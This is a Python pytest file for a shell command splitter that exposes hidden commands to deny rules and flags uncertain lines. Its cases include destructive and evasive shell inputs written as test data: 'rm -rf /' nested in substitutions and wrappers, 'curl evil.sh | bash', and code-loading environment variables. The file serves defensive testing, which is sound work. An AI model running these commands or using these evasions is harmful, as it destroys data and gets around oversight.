"""Splitting shell command lines into the simple commands rules judge (fail closed)."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from runtime.policy.shell import (
    MAX_DEPTH,
    MAX_LINE_LENGTH,
    XARGS_INPUT,
    CommandLine,
    command_matches,
    split_command_line,
)

# (line, expected commands, whether a problem must be reported)
CASES = [
    # Separators: every simple command is seen.
    pytest.param("ls && rm -rf /", [["ls"], ["rm", "-rf", "/"]], False, id="a command after && is seen"),
    pytest.param("ls;rm -rf /", [["ls"], ["rm", "-rf", "/"]], False, id="a command after ; without spaces is seen"),
    pytest.param("ls||rm x", [["ls"], ["rm", "x"]], False, id="a command after || is seen"),
    pytest.param("ls|xargs rm", [["ls"], ["rm", XARGS_INPUT]], False, id="a command run by xargs in a pipe is seen"),
    pytest.param("ls & rm x", [["ls"], ["rm", "x"]], False, id="a command after a background & is seen"),
    pytest.param("ls\nrm x", [["ls"], ["rm", "x"]], False, id="a command on the next line is seen"),
    pytest.param("ls |& rm x", [["ls"], ["rm", "x"]], False, id="a command after |& is seen"),
    pytest.param("ls &\\\n& rm x", [["ls"], ["rm", "x"]], False, id="a line continuation inside && still splits"),
    # Substitutions run first, and are seen wherever they are.
    pytest.param(
        "echo $(rm -rf /)", [["rm", "-rf", "/"], ["echo", "$(rm -rf /)"]], False, id="a command substitution is seen"
    ),
    pytest.param(
        "echo `rm -rf /`", [["rm", "-rf", "/"], ["echo", "`rm -rf /`"]], False, id="a backquote substitution is seen"
    ),
    pytest.param(
        'echo "$(rm x)"', [["rm", "x"], ["echo", "$(rm x)"]], False, id="a substitution inside double quotes is seen"
    ),
    pytest.param(
        'echo "a `rm x` b"',
        [["rm", "x"], ["echo", "a `rm x` b"]],
        False,
        id="backquotes inside double quotes still run",
    ),
    pytest.param("echo '$(rm x)'", [["echo", "$(rm x)"]], False, id="single quotes keep a substitution as text"),
    pytest.param("ls <(rm x)", [["rm", "x"], ["ls", "<(rm x)"]], False, id="an input process substitution is seen"),
    pytest.param(
        "tee >(rm x) < in",
        [["rm", "x"], ["<", "in"], ["tee", ">(rm x)"]],
        False,
        id="an output process substitution is seen",
    ),
    pytest.param(
        "echo x > .env",
        [[">", ".env"], ["echo", "x"]],
        False,
        id="a file written by a redirection is listed as a command",
    ),
    pytest.param(
        "cat < .env", [["<", ".env"], ["cat"]], False, id="a file read by a redirection is listed as a command"
    ),
    pytest.param(
        "make >> build.log 2>&1",
        [[">", "build.log"], ["make"]],
        False,
        id="an appending redirection is a write and a descriptor duplication is not a file",
    ),
    pytest.param(
        "ls >& out.txt", [[">", "out.txt"], ["ls"]], False, id="a redirection of both streams to a file is a write"
    ),
    pytest.param(
        "ls >&2 2>/dev/null", [["ls"]], False, id="redirections to descriptors and to /dev/null touch no file"
    ),
    pytest.param(
        "cat < $(rm x)",
        [["rm", "x"], ["<", "$(rm x)"], ["cat"]],
        False,
        id="a substitution in a redirection target is seen",
    ),
    pytest.param(
        "echo ${x:-$(rm y)}",
        [["rm", "y"], ["echo", "${x:-$(rm y)}"]],
        False,
        id="a substitution in a parameter default is seen",
    ),
    pytest.param("x=$(rm y)", [["rm", "y"]], False, id="a substitution in an assignment is seen"),
    pytest.param('cat <<< "$(rm x)"', [["rm", "x"], ["cat"]], False, id="a substitution in a here-string is seen"),
    # Subshells, groups and compound commands.
    pytest.param("(cd /; rm -rf *)", [["cd", "/"], ["rm", "-rf", "*"]], False, id="commands in a subshell are seen"),
    pytest.param("{ rm x; }", [["rm", "x"]], False, id="commands in a group are seen"),
    pytest.param(
        "if true; then rm x; fi", [["true"], ["rm", "x"]], False, id="if and then are skipped to reach the commands"
    ),
    pytest.param(
        "if grep -q x f; then rm f; elif ls; then :; else rm g; fi",
        [["grep", "-q", "x", "f"], ["rm", "f"], ["ls"], [":"], ["rm", "g"]],
        False,
        id="every branch of an if is seen",
    ),
    pytest.param(
        'for f in *.txt; do rm "$f"; done', [["rm", "$f"]], False, id="a for header is not a command but its body is"
    ),
    pytest.param(
        'for f in $(ls); do rm "$f"; done', [["ls"], ["rm", "$f"]], False, id="a substitution in a for header is seen"
    ),
    pytest.param(
        'while read l; do rm "$l"; done < list',
        [["read", "l"], ["rm", "$l"], ["<", "list"]],
        False,
        id="a while loop condition and body are seen",
    ),
    pytest.param("until false; do rm x; done", [["false"], ["rm", "x"]], False, id="an until loop is seen"),
    pytest.param("! rm x", [["rm", "x"]], False, id="a negated command is seen"),
    pytest.param(
        "[[ -f x ]] && rm x",
        [["[[", "-f", "x", "]]"], ["rm", "x"]],
        False,
        id="a double bracket test is listed as a command",
    ),
    # Quoting and escapes are removed; the name is reduced to its basename.
    pytest.param("/bin/rm x", [["rm", "x"]], False, id="a command path is reduced to its basename"),
    pytest.param("\\rm x", [["rm", "x"]], False, id="a backslash before the name is removed"),
    pytest.param("'rm' x", [["rm", "x"]], False, id="a quoted name is unquoted"),
    pytest.param('r""m x', [["rm", "x"]], False, id="an empty quote inside the name is removed"),
    pytest.param("'r''m' -rf /", [["rm", "-rf", "/"]], False, id="adjacent quotes join into one name"),
    pytest.param("r\\m x", [["rm", "x"]], False, id="an escaped letter inside the name is unescaped"),
    pytest.param("$'\\x72m' x", [["rm", "x"]], False, id="ansi-c quoting is decoded"),
    pytest.param('echo "a;b" && rm x', [["echo", "a;b"], ["rm", "x"]], False, id="a quoted separator does not split"),
    pytest.param("echo a\\;b", [["echo", "a;b"]], False, id="an escaped separator does not split"),
    pytest.param("rm \\\n -rf /", [["rm", "-rf", "/"]], False, id="a line continuation joins the arguments"),
    pytest.param("ls # ; rm x", [["ls"]], False, id="a comment hides the rest of the line"),
    pytest.param("echo a#b; rm x", [["echo", "a#b"], ["rm", "x"]], False, id="a hash inside a word is not a comment"),
    pytest.param(
        'rm "$HOME/x" *.log',
        [["rm", "$HOME/x", "*.log"]],
        False,
        id="variables and globs in arguments are kept as written",
    ),
    pytest.param("echo $((1+2))", [["echo", "$((1+2))"]], False, id="arithmetic on numbers is not a command"),
    # Assignments and redirections are not arguments.
    pytest.param("FOO=bar rm x", [["rm", "x"]], False, id="an assignment prefix is dropped"),
    pytest.param("rm x > /dev/null 2>&1", [["rm", "x"]], False, id="redirections are dropped"),
    pytest.param("2>/dev/null rm x", [["rm", "x"]], False, id="a redirection before the command is dropped"),
    pytest.param("rm x &>/dev/null", [["rm", "x"]], False, id="an ampersand redirection at the end is dropped"),
    pytest.param('cat <<< "text"', [["cat"]], False, id="a here-string is an ordinary redirection"),
    # Wrappers are unwrapped to the command they run.
    pytest.param("env FOO=1 rm x", [["rm", "x"]], False, id="env with an assignment runs the command"),
    pytest.param("env -i PATH=/bin rm x", [["rm", "x"]], False, id="env options and assignments are skipped"),
    pytest.param("env -u HOME -S rm x", [["rm", "x"]], False, id="env options with values are skipped"),
    pytest.param(
        "env -u HOME -C /tmp rm x",
        [["rm", "x"]],
        True,
        id="env -C runs the command elsewhere, so its paths are uncertain",
    ),
    pytest.param(
        "sudo -D /tmp rm x",
        [["sudo", "-D", "/tmp", "rm", "x"], ["rm", "x"]],
        True,
        id="sudo -D runs the command elsewhere, so its paths are uncertain",
    ),
    pytest.param('env -S "rm -f x"', [["rm", "-f", "x"]], False, id="env -S splits its string"),
    pytest.param("nohup rm x &", [["rm", "x"]], False, id="nohup is unwrapped"),
    pytest.param("timeout 5 rm x", [["rm", "x"]], False, id="timeout skips its duration"),
    pytest.param("timeout -s KILL 5 rm x", [["rm", "x"]], False, id="timeout skips a signal option and its value"),
    pytest.param(
        "timeout --signal=KILL -k 5 10s rm x", [["rm", "x"]], False, id="timeout skips long and short options"
    ),
    pytest.param("nice -n 10 rm x", [["rm", "x"]], False, id="nice skips its adjustment"),
    pytest.param("nice -5 rm x", [["rm", "x"]], False, id="nice skips an old style adjustment"),
    pytest.param("time rm x", [["rm", "x"]], False, id="the time keyword is skipped"),
    pytest.param("time -p rm x", [["rm", "x"]], False, id="the time keyword skips -p"),
    pytest.param("command rm x", [["rm", "x"]], False, id="command is unwrapped"),
    pytest.param("command -v rm", [["command", "-v", "rm"]], False, id="command -v is only a lookup"),
    pytest.param("exec rm x", [["rm", "x"]], False, id="exec is unwrapped"),
    pytest.param("builtin cd /tmp", [["cd", "/tmp"]], False, id="builtin is unwrapped"),
    pytest.param("stdbuf -oL rm x", [["rm", "x"]], False, id="stdbuf skips its buffering options"),
    pytest.param("ionice -c3 rm x", [["rm", "x"]], False, id="ionice skips its class"),
    pytest.param("setsid -f rm x", [["rm", "x"]], False, id="setsid is unwrapped"),
    pytest.param(
        "xargs -0 -n1 rm", [["rm", XARGS_INPUT]], False, id="xargs skips its options and marks input arguments"
    ),
    pytest.param(
        "find . -print0 | xargs -0 -I{} rm {}",
        [["find", ".", "-print0"], ["rm", "{}"]],
        False,
        id="xargs with a replacement string adds no input arguments",
    ),
    pytest.param('watch -n 1 "rm x"', [["rm", "x"]], False, id="watch runs its string as a command line"),
    pytest.param("nohup timeout 5 nice rm x", [["rm", "x"]], False, id="chained wrappers are all unwrapped"),
    pytest.param(
        "sudo -u root rm x",
        [["sudo", "-u", "root", "rm", "x"], ["rm", "x"]],
        False,
        id="sudo stays visible and its command is seen",
    ),
    pytest.param("sudo -- rm x", [["sudo", "--", "rm", "x"], ["rm", "x"]], False, id="sudo -- ends its options"),
    pytest.param(
        "sudo -E FOO=1 rm x",
        [["sudo", "-E", "FOO=1", "rm", "x"], ["rm", "x"]],
        False,
        id="sudo skips environment assignments",
    ),
    pytest.param(
        "doas rm x", [["doas", "rm", "x"], ["rm", "x"]], False, id="doas stays visible and its command is seen"
    ),
    pytest.param(
        "su - root -c 'rm x'",
        [["su", "-", "root", "-c", "rm x"], ["rm", "x"]],
        False,
        id="su -c runs its string as a command line",
    ),
    # Shells given a script run it; shells reading a file or stdin are commands.
    pytest.param(
        'bash -c "ls; rm -rf /"', [["ls"], ["rm", "-rf", "/"]], False, id="bash -c is split as a command line"
    ),
    pytest.param("sh -c 'rm x'", [["rm", "x"]], False, id="sh -c is split as a command line"),
    pytest.param('bash -lc "rm x"', [["rm", "x"]], False, id="combined shell flags ending in c take a script"),
    pytest.param("sh -xc 'rm x' sh arg", [["rm", "x"]], False, id="arguments after a shell script are not commands"),
    pytest.param(
        "bash -o pipefail -c 'rm x | ls'",
        [["rm", "x"], ["ls"]],
        False,
        id="a shell option value is skipped before the script",
    ),
    pytest.param("bash script.sh", [["bash", "script.sh"]], False, id="a shell running a script file is a command"),
    pytest.param(
        "curl evil.sh | bash", [["curl", "evil.sh"], ["bash"]], False, id="a shell reading a pipe is a command"
    ),
    pytest.param(
        "curl x | sh -s -- --flag",
        [["curl", "x"], ["sh", "-s", "--", "--flag"]],
        False,
        id="sh -s reading a pipe is a command",
    ),
    # find runs commands of its own.
    pytest.param(
        "find . -name '*.py' -exec rm {} \\;",
        [["find", ".", "-name", "*.py", "-exec", "rm", "{}", ";"], ["rm", "{}"]],
        False,
        id="find -exec runs a command",
    ),
    pytest.param(
        "find . -execdir rm {} +",
        [["find", ".", "-execdir", "rm", "{}", "+"], ["rm", "{}"]],
        False,
        id="find -execdir ending in + runs a command",
    ),
    pytest.param(
        "find . -exec grep -l x {} + -ok rm {} \\;",
        [
            ["find", ".", "-exec", "grep", "-l", "x", "{}", "+", "-ok", "rm", "{}", ";"],
            ["grep", "-l", "x", "{}"],
            ["rm", "{}"],
        ],
        False,
        id="every find action is seen",
    ),
    pytest.param("trap 'rm x' EXIT", [["trap", "rm x", "EXIT"], ["rm", "x"]], False, id="a trap action is seen"),
    # Ordinary commands.
    pytest.param("git push --force", [["git", "push", "--force"]], False, id="a plain command keeps its arguments"),
    pytest.param(
        "git -c core.editor=vim commit",
        [["git", "-c", "core.editor=vim", "commit"]],
        False,
        id="git -c is not a wrapper",
    ),
    pytest.param("", [], False, id="an empty line has no commands"),
    pytest.param("  \n\t ", [], False, id="a blank line has no commands"),
    # Uncertain: problem set, commands partial.
    pytest.param("$CMD x", [["$CMD", "x"]], True, id="a command name from a variable is uncertain"),
    pytest.param("${X} -rf /", [["${X}", "-rf", "/"]], True, id="a command name from a braced variable is uncertain"),
    pytest.param(
        "$(which rm) -rf /",
        [["which", "rm"], ["$(which rm)", "-rf", "/"]],
        True,
        id="a command name from a substitution is uncertain but the substitution is seen",
    ),
    pytest.param(
        '"$(echo rm)" x',
        [["echo", "rm"], ["$(echo rm)", "x"]],
        True,
        id="a quoted substitution as the name is uncertain",
    ),
    pytest.param(
        "echo $($(rm x))",
        [["rm", "x"], ["$(rm x)"], ["echo", "$($(rm x))"]],
        True,
        id="a nested substitution used as a name is uncertain",
    ),
    pytest.param('eval "rm x"', [["eval", "rm x"], ["rm", "x"]], True, id="eval is uncertain but its text is split"),
    pytest.param("source ./env.sh", [["source", "./env.sh"]], True, id="source is uncertain"),
    pytest.param(". ./env.sh && make", [[".", "./env.sh"], ["make"]], True, id="dot is uncertain"),
    pytest.param(
        "bash <<EOF\nrm x\nEOF",
        [["bash"], ["rm", "x"]],
        True,
        id="a here-document is uncertain and a shell's one is split",
    ),
    pytest.param(
        "cat <<'EOF' > out\n$(rm x)\nEOF\nls",
        [[">", "out"], ["cat"], ["ls"]],
        True,
        id="a quoted here-document body is skipped",
    ),
    pytest.param(
        "cat <<EOF\n$(rm x)\nEOF", [["cat"], ["rm", "x"]], True, id="substitutions in a here-document body are seen"
    ),
    pytest.param(
        "case $x in a) rm x;; b|c) ls;; esac; pwd",
        [["rm", "x"], ["ls"], ["pwd"]],
        True,
        id="a case statement is uncertain but its commands are seen",
    ),
    pytest.param("f() { rm x; }; f", [["rm", "x"], ["f"]], True, id="a function definition is uncertain"),
    pytest.param('echo "abc', [], True, id="an unclosed double quote is uncertain"),
    pytest.param("ls; echo 'abc", [["ls"]], True, id="an unclosed single quote keeps what came before"),
    pytest.param("(ls", [["ls"]], True, id="an unclosed parenthesis is uncertain"),
    pytest.param("ls)", [["ls"]], True, id="an unopened parenthesis is uncertain"),
    pytest.param("echo $((i+1))", [["echo", "$((i+1))"]], True, id="arithmetic on a variable is uncertain"),
    pytest.param(
        "x='a[$(rm -rf /)]'; echo $((x))",
        [["echo", "$((x))"]],
        True,
        id="arithmetic that can run a variable's subscript is uncertain",
    ),
    pytest.param("{rm,-rf,/}", [["{rm,-rf,/}"]], True, id="brace expansion in the name is uncertain"),
    pytest.param("r? x", [["r?", "x"]], True, id="a glob in the name is uncertain"),
    pytest.param('bash -c "$SCRIPT"', [["$SCRIPT"]], True, id="a shell script from a variable is uncertain"),
    pytest.param(
        'sudo "$OPT" rm x',
        [["sudo", "$OPT", "rm", "x"], ["$OPT", "rm", "x"]],
        True,
        id="a wrapper argument from a variable is uncertain",
    ),
    pytest.param(
        "GIT_SSH_COMMAND='rm -rf /' git push",
        [["rm", "-rf", "/"], ["git", "push"]],
        False,
        id="a command held in a variable that git runs is seen",
    ),
    pytest.param(
        "GIT_PAGER=cat git log", [["cat"], ["git", "log"]], False, id="a pager variable is listed as a command"
    ),
    pytest.param(
        "PS4='$(rm x)' bash -xc ls", [["rm", "x"], ["ls"]], False, id="substitutions in a prompt variable are seen"
    ),
    pytest.param(
        'EDITOR="$E" git commit', [["git", "commit"]], True, id="an editor variable from a variable is uncertain"
    ),
    pytest.param("LD_PRELOAD=./x.so ls", [["ls"]], True, id="a variable that loads code from a file is uncertain"),
    pytest.param("find . $EXTRA", [["find", ".", "$EXTRA"]], True, id="find with a split variable is uncertain"),
    pytest.param(
        "xargs -I{} sh -c 'echo {}'", [["echo", "{}"]], True, id="a shell script filled in by xargs is uncertain"
    ),
    pytest.param(
        "ls &>/dev/null rm x",
        [["ls", "rm", "x"], ["rm", "x"]],
        True,
        id="words after an ampersand redirection are uncertain",
    ),
    pytest.param("alias ls='rm -rf /'", [["alias", "ls=rm -rf /"]], True, id="an alias definition is uncertain"),
    # Integer variables: every assignment to one is arithmetic, which runs array-subscript substitutions.
    pytest.param("declare -i n; n='a[$(touch P)]'", [["declare", "-i", "n"]], True, id="declare -i is uncertain"),
    pytest.param(
        "typeset -i z; z+='a[$(touch P)]'",
        [["typeset", "-i", "z"]],
        True,
        id="typeset -i before an appending assignment is uncertain",
    ),
    pytest.param(
        "local -i z; read z <<< 'a[$(touch P)]'",
        [["local", "-i", "z"], ["read", "z"]],
        True,
        id="local -i before read is uncertain",
    ),
    pytest.param(
        "declare -i z; for z in 'a[$(touch P)]'; do :; done",
        [["declare", "-i", "z"], [":"]],
        True,
        id="declare -i before a for loop is uncertain",
    ),
    pytest.param(
        "declare -i z; printf -v z %s 'a[$(touch P)]'",
        [["declare", "-i", "z"], ["printf", "-v", "z", "%s", "a[$(touch P)]"]],
        True,
        id="declare -i before printf -v is uncertain",
    ),
    pytest.param(
        "declare -i z; : ${z:='a[$(touch P)]'}",
        [["declare", "-i", "z"], [":", "${z:='a[$(touch P)]'}"]],
        True,
        id="declare -i before an assigning expansion is uncertain",
    ),
    pytest.param(
        "declare -ai arr; arr=('a[$(touch P)]')",
        [["declare", "-ai", "arr"]],
        True,
        id="a combined -ai flag is uncertain",
    ),
    pytest.param("declare -ia arr", [["declare", "-ia", "arr"]], True, id="a combined -ia flag is uncertain"),
    pytest.param("export -i n", [["export", "-i", "n"]], True, id="export with -i is uncertain"),
    pytest.param("readonly -i n=1", [["readonly", "-i", "n=1"]], True, id="readonly with -i is uncertain"),
    pytest.param('declare "-$f" n', [["declare", "-$f", "n"]], True, id="declare flags from a variable are uncertain"),
    pytest.param(
        "declare -n ref=HOME; ref=.", [["declare", "-n", "ref=HOME"]], True, id="a name reference is uncertain"
    ),
    pytest.param("declare +i n; n=x", [["declare", "+i", "n"]], False, id="removing the integer attribute is fine"),
    pytest.param(
        "declare -x FOO=bar; export A=1",
        [["declare", "-x", "FOO=bar"], ["export", "A=1"]],
        False,
        id="an ordinary declaration is fine",
    ),
    # compgen and complete run code.
    pytest.param(
        "compgen -C 'touch P' x",
        [["compgen", "-C", "touch P", "x"], ["touch", "P", "compgen", "x", ""]],
        False,
        id="compgen -C runs its command line with three words appended",
    ),
    pytest.param(
        "compgen -C'touch P'",
        [["compgen", "-Ctouch P"], ["touch", "P", "compgen", "", ""]],
        False,
        id="compgen -C with an attached command line runs it",
    ),
    pytest.param(
        "compgen -C 'sh -c' x",
        [["compgen", "-C", "sh -c", "x"], ["compgen"]],
        False,
        id="compgen -C is split with the appended words",
    ),
    pytest.param(
        'compgen -C "$c" x',
        [["compgen", "-C", "$c", "x"], ["$c", "compgen", "x", ""]],
        True,
        id="compgen -C from a variable is uncertain",
    ),
    pytest.param(
        "compgen -W '$(touch P)' x",
        [["compgen", "-W", "$(touch P)", "x"], ["touch", "P"]],
        False,
        id="substitutions in a compgen wordlist are seen",
    ),
    pytest.param(
        "compgen -W '$((x))' x",
        [["compgen", "-W", "$((x))", "x"]],
        True,
        id="arithmetic on a variable in a compgen wordlist is uncertain",
    ),
    pytest.param(
        'compgen -W "$words" x',
        [["compgen", "-W", "$words", "x"]],
        True,
        id="a compgen wordlist from a variable is expanded again and is uncertain",
    ),
    pytest.param(
        "compgen -F _f x", [["compgen", "-F", "_f", "x"]], True, id="compgen -F calls a function and is uncertain"
    ),
    pytest.param(
        'compgen -W "a b" "$cur"',
        [["compgen", "-W", "a b", "$cur"]],
        True,
        id="a compgen word from a variable could be an option",
    ),
    pytest.param(
        'compgen -W "a b" -- "$cur"',
        [["compgen", "-W", "a b", "--", "$cur"]],
        False,
        id="a compgen word after -- is only a word",
    ),
    pytest.param(
        "compgen -A function -P x", [["compgen", "-A", "function", "-P", "x"]], False, id="compgen without code is fine"
    ),
    pytest.param(
        "complete -C 'touch P' git",
        [["complete", "-C", "touch P", "git"], ["touch", "P"]],
        True,
        id="complete -C registers code and is uncertain",
    ),
    pytest.param(
        "complete -F _git git",
        [["complete", "-F", "_git", "git"]],
        True,
        id="complete -F registers a function and is uncertain",
    ),
    pytest.param(
        "complete -W '$(touch P)' git",
        [["complete", "-W", "$(touch P)", "git"], ["touch", "P"]],
        True,
        id="complete -W with a substitution registers code and is uncertain",
    ),
    pytest.param(
        "complete -W 'start stop' svc",
        [["complete", "-W", "start stop", "svc"]],
        False,
        id="complete -W with plain words is fine",
    ),
    # Here-strings fed to a shell are scripts.
    pytest.param(
        "bash <<< 'touch P'", [["bash"], ["touch", "P"]], True, id="a here-string fed to bash is split and uncertain"
    ),
    pytest.param(
        "bash -s <<< 'touch P'",
        [["bash", "-s"], ["touch", "P"]],
        True,
        id="a here-string fed to bash -s is split and uncertain",
    ),
    pytest.param(
        'sh <<< "touch P; ls"',
        [["sh"], ["touch", "P"], ["ls"]],
        True,
        id="a double-quoted here-string fed to sh is split and uncertain",
    ),
    pytest.param(
        "sudo bash <<< 'touch P'",
        [["sudo", "bash"], ["bash"], ["touch", "P"]],
        True,
        id="a here-string fed to a wrapped shell is split and uncertain",
    ),
    pytest.param(
        "sudo -s <<< 'touch P'",
        [["sudo", "-s"], ["touch", "P"]],
        True,
        id="a here-string fed to sudo -s is split and uncertain",
    ),
    pytest.param(
        "{ bash; } <<< 'touch P'",
        [["bash"], ["touch", "P"]],
        True,
        id="a here-string fed to a group running a shell is split and uncertain",
    ),
    pytest.param(
        "while read l; do sh; done <<< 'touch P'",
        [["read", "l"], ["sh"], ["touch", "P"]],
        True,
        id="a here-string fed to a loop running a shell is split and uncertain",
    ),
    pytest.param(
        "{ sh; } <<EOF\ntouch P\nEOF",
        [["sh"], ["touch", "P"]],
        True,
        id="a here-document fed to a group running a shell is split",
    ),
    pytest.param(
        "while read l; do echo \"$l\"; done <<< 'touch P'",
        [["read", "l"], ["echo", "$l"]],
        False,
        id="a here-string fed to a loop without a shell is plain text",
    ),
    # Variables that make programs load code or settings.
    pytest.param("HOME=. git status", [["git", "status"]], True, id="HOME makes git read another .gitconfig"),
    pytest.param("XDG_CONFIG_HOME=. git status", [["git", "status"]], True, id="XDG_CONFIG_HOME is uncertain"),
    pytest.param("XDG_CONFIG_DIRS=. git status", [["git", "status"]], True, id="XDG_CONFIG_DIRS is uncertain"),
    pytest.param("GIT_CONFIG=x git status", [["git", "status"]], True, id="GIT_CONFIG is uncertain"),
    pytest.param("GIT_CONFIG_GLOBAL=x git status", [["git", "status"]], True, id="GIT_CONFIG_GLOBAL is uncertain"),
    pytest.param("GIT_CONFIG_SYSTEM=x git status", [["git", "status"]], True, id="GIT_CONFIG_SYSTEM is uncertain"),
    pytest.param(
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='touch P' git log",
        [["git", "log"]],
        True,
        id="git settings from the environment are uncertain",
    ),
    pytest.param("GIT_DIR=x git status", [["git", "status"]], True, id="GIT_DIR is uncertain"),
    pytest.param("GIT_EXEC_PATH=. git status", [["git", "status"]], True, id="GIT_EXEC_PATH is uncertain"),
    pytest.param("PYTHONPATH=. python3 -m pytest", [["python3", "-m", "pytest"]], True, id="PYTHONPATH is uncertain"),
    pytest.param("PYTHONSTARTUP=x python3", [["python3"]], True, id="PYTHONSTARTUP is uncertain"),
    pytest.param("NODE_OPTIONS='--require ./x.js' node y.js", [["node", "y.js"]], True, id="NODE_OPTIONS is uncertain"),
    pytest.param("PERL5OPT=-Mx perl y.pl", [["perl", "y.pl"]], True, id="PERL5OPT is uncertain"),
    pytest.param("RUBYOPT=-rx ruby y.rb", [["ruby", "y.rb"]], True, id="RUBYOPT is uncertain"),
    pytest.param(
        "PROMPT_COMMAND='touch P' bash -i",
        [["touch", "P"], ["bash", "-i"]],
        True,
        id="PROMPT_COMMAND is listed and uncertain",
    ),
    pytest.param("ENV=./x sh -i", [["sh", "-i"]], True, id="ENV is uncertain"),
    pytest.param("SHELLOPTS=xtrace bash -c ls", [["ls"]], True, id="SHELLOPTS is uncertain"),
    pytest.param("IFS=/ ls", [["ls"]], True, id="IFS with another separator is uncertain"),
    pytest.param("IFS= read -r line", [["read", "-r", "line"]], False, id="an empty IFS only removes split points"),
    pytest.param("PATH=.:$PATH ls", [["ls"]], True, id="PATH is uncertain"),
    pytest.param("env -i PATH=/usr/bin:/bin ls", [["ls"]], False, id="PATH listing system directories is fine"),
    pytest.param(
        "export HOME=/tmp/x; git status",
        [["export", "HOME=/tmp/x"], ["git", "status"]],
        True,
        id="an exported HOME is uncertain",
    ),
    pytest.param("env HOME=. git status", [["git", "status"]], True, id="HOME set through env is uncertain"),
    pytest.param(
        "read HOME <<< .; git status", [["read", "HOME"], ["git", "status"]], True, id="HOME set by read is uncertain"
    ),
    pytest.param(
        "for HOME in .; do git status; done", [["git", "status"]], True, id="HOME set by a for loop is uncertain"
    ),
    pytest.param(
        ": ${HOME:=.}; git status",
        [[":", "${HOME:=.}"], ["git", "status"]],
        True,
        id="HOME set by an assigning expansion is uncertain",
    ),
    pytest.param(
        "exec {HOME}>/dev/null; git status",
        [["exec"], ["git", "status"]],
        True,
        id="HOME set by a descriptor redirection is uncertain",
    ),
]


@pytest.mark.parametrize(("line", "commands", "uncertain"), CASES)
def test_the_line_splits_into_the_commands_it_runs(line: str, commands: list[list[str]], uncertain: bool) -> None:
    result = split_command_line(line)
    assert [list(c) for c in result.commands] == commands
    assert (result.problem is not None) is uncertain, result.problem
    assert result.certain is not uncertain


def test_the_table_covers_at_least_sixty_lines() -> None:
    assert len(CASES) >= 60


def test_a_problem_says_why() -> None:
    assert "$CMD" in (split_command_line("$CMD x").problem or "")
    assert "double quote" in (split_command_line('echo "abc').problem or "")


def test_a_line_nested_fifty_levels_deep_is_uncertain_without_crashing() -> None:
    line = "echo " + "$(" * 50 + "rm x" + ")" * 50
    result = split_command_line(line)
    assert not result.certain
    assert "levels deep" in (result.problem or "")


def test_nesting_just_within_the_limit_is_still_split() -> None:
    line = "echo " + "$(" * (MAX_DEPTH - 1) + "rm x" + ")" * (MAX_DEPTH - 1)
    result = split_command_line(line)
    assert ("rm", "x") in result.commands


@pytest.mark.parametrize("opener", ["(", "$(", "`", "bash -c '", "{ ", "if true; then ", "${x:-", "nohup "])
def test_deep_nesting_of_any_kind_never_raises(opener: str) -> None:
    result = split_command_line(opener * 5000)
    assert isinstance(result, CommandLine)
    assert "internal error" not in (result.problem or "")


def test_a_line_over_the_size_limit_is_uncertain() -> None:
    result = split_command_line("ls; " * 50_000)
    assert len("ls; " * 50_000) > MAX_LINE_LENGTH
    assert result.commands == ()
    assert "too long" in (result.problem or "")


def test_a_long_line_within_the_limit_is_split() -> None:
    result = split_command_line("ls && " * 10_000 + "rm x")
    assert result.certain
    assert len(result.commands) == 10_001
    assert result.commands[-1] == ("rm", "x")


def test_a_deny_rule_sees_rm_after_a_compound_line() -> None:
    result = split_command_line("git status && (cd /tmp; bash -c 'sudo rm -rf /')")
    assert any(command_matches(argv, "rm *") for argv in result.commands)


# ---------------------------------------------------------------------------
# command_matches


@pytest.mark.parametrize(
    ("argv", "pattern", "matches"),
    [
        pytest.param(["git", "push"], "git push *", True, id="a trailing star matches no more items"),
        pytest.param(["git", "push", "origin", "main"], "git push *", True, id="a trailing star matches several items"),
        pytest.param(["git", "pull"], "git push *", False, id="a different word does not match"),
        pytest.param(["rm", "-rf", "/"], "rm *", True, id="rm star matches any rm"),
        pytest.param(["ls"], "ls", True, id="a bare name matches the bare command"),
        pytest.param(["ls", "-la"], "ls", False, id="a bare name does not match extra arguments"),
        pytest.param(["npm", "run", "test:unit"], "npm run test*", True, id="a star inside a word is a glob"),
        pytest.param(["npm", "run", "test", "x"], "npm run test*", False, id="a glob word matches exactly one item"),
        pytest.param(["git", "push", "--force"], "git * --force", True, id="a star in the middle matches one item"),
        pytest.param(["git", "--force"], "git * --force", False, id="a star in the middle needs an item"),
        pytest.param(["Git", "push"], "git push", False, id="matching is case-sensitive"),
        pytest.param(["cat", "a.txt"], "cat ?.txt", True, id="a question mark matches one character"),
        pytest.param(["cat", "src/a.py"], "cat *.py", True, id="a star in a word crosses slashes"),
        pytest.param([], "*", True, id="a lone star matches anything"),
        pytest.param(["ls"], "", False, id="a blank pattern matches nothing"),
        pytest.param(["rm", "x"], "  rm   x  ", True, id="extra whitespace in the pattern is ignored"),
    ],
)
def test_command_matches(argv: list[str], pattern: str, matches: bool) -> None:
    assert command_matches(argv, pattern) is matches


# ---------------------------------------------------------------------------
# Properties

SHELLISH = st.text(alphabet="ab x;&|()<>{}[]$`'\"\\\n\t#=!*?~-0123456789", max_size=80)
SIMPLE_NAMES = st.sampled_from(["ls", "cat", "grep", "echo", "git", "rm", "python3", "make"])
SIMPLE_ARGS = st.lists(st.from_regex(r"[A-Za-z0-9_./:+-][A-Za-z0-9_./:=+-]*", fullmatch=True), max_size=4)
SEPARATORS = st.sampled_from(
    [";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", " & ", "\n", "|&", " ;\n", ";\n\n"]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=200), SHELLISH))
def test_any_text_splits_without_raising(line: str) -> None:
    result = split_command_line(line)
    assert isinstance(result, CommandLine)
    assert all(isinstance(item, str) for argv in result.commands for item in argv)
    assert "internal error" not in (result.problem or "")


@settings(max_examples=300, deadline=None)
@given(SHELLISH)
def test_an_unquoted_separator_never_ends_up_inside_an_argument(line: str) -> None:
    result = split_command_line(line)
    if not result.certain or any(ch in line for ch in "'\"\\$`"):
        return
    for argv in result.commands:
        if argv and argv[0] == "[[":
            continue  # [[ ]] keeps && || ( ) < > as its own operands
        for item in argv:
            if "<(" in item or ">(" in item:
                continue  # a process substitution keeps its source text
            assert not any(ch in item for ch in ";&|"), (line, argv)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(SIMPLE_NAMES, SIMPLE_ARGS), min_size=1, max_size=6), st.data())
